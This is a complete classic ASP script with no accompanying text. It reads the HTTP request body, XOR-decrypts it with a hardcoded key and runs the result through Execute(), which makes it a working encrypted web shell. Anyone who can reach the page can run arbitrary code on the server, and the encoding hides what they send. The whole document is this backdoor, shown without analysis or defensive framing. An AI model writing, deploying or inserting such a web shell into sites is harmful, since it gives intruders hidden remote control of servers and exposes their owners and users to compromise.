<%
key = "0123456789abcdef"
size = Request.TotalBytes
body = Request.BinaryRead(size)
For i = 1 To size
  plain = plain & Chr(AscB(MidB(body, i, 1)) Xor Asc(Mid(key, (i And 15) + 1, 1)))
Next
Execute(plain)
%>
